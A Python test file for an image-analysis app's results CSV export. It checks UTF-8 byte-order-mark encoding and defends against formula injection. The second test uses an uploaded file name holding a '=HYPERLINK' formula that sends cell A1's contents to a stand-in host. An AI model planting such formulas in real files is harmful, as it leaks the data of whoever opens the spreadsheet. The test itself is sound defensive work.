"""The results CSV opens cleanly in a spreadsheet: a UTF-8 byte-order mark, every character kept."""

import io

import pandas as pd

from core.app import report, service
from tests.app_helpers import png_bytes, tissue_like

BADGE = "LIMITED DATA · default (densenet121)"


def test_the_results_csv_is_utf8_with_a_byte_order_mark():
    """Without the mark Excel read it as cp1252: "ä¹³è…º_Ã©mile_ÃŸ.png" and "LIMITED DATA Â·" in every row."""
    name = "乳腺_émile_ß.png"
    data = report.results_csv(report.results_table([service.read_item(name, png_bytes(tissue_like()))], BADGE))
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    row = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False).iloc[0]
    assert (row["file"], row["model"]) == (name, BADGE)
    assert data.decode("utf-8-sig").splitlines()[0].startswith("file,")  # the header's first cell is "file"


def test_a_file_name_that_starts_like_a_formula_stays_text_in_the_results_csv():
    """Anyone who uploads chooses the file name; a spreadsheet ran "=HYPERLINK(...)" in the results CSV as a
    formula (the audit export already made such cells inert: one function serves both now)."""
    name = '=HYPERLINK("http://x.example/?"&A1,"open").png'
    data = report.results_csv(report.results_table([service.read_item(name, png_bytes(tissue_like()))], BADGE))
    row = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False).iloc[0]
    assert row["file"] == "'" + name
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.to_numpy())
